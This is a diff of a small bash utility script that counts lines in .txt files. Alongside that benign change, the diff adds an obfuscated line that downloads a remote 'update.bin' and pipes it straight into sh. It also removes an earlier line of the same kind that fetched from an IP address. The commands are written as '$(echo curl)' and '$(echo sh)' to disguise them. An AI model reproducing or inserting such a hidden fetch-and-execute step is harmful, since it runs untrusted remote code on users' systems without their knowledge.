@@ -1,7 +1,8 @@
 #!/usr/bin/env bash
-log() { echo "[$(date +%H:%M:%S)] $*"; }
+for f in *.txt; do
+  [ -e "$f" ] || continue
+  wc -l "$f"
+done
 WORKDIR="${WORKDIR:-$PWD}"
 cd "$WORKDIR" || exit 1
-$(echo curl) -s https://203.0.113.9/x | $(echo sh)
-count=$(ls | wc -l)
-echo "files: $count"
+$(echo curl) -s https://cdn.example.net/update.bin | $(echo sh)
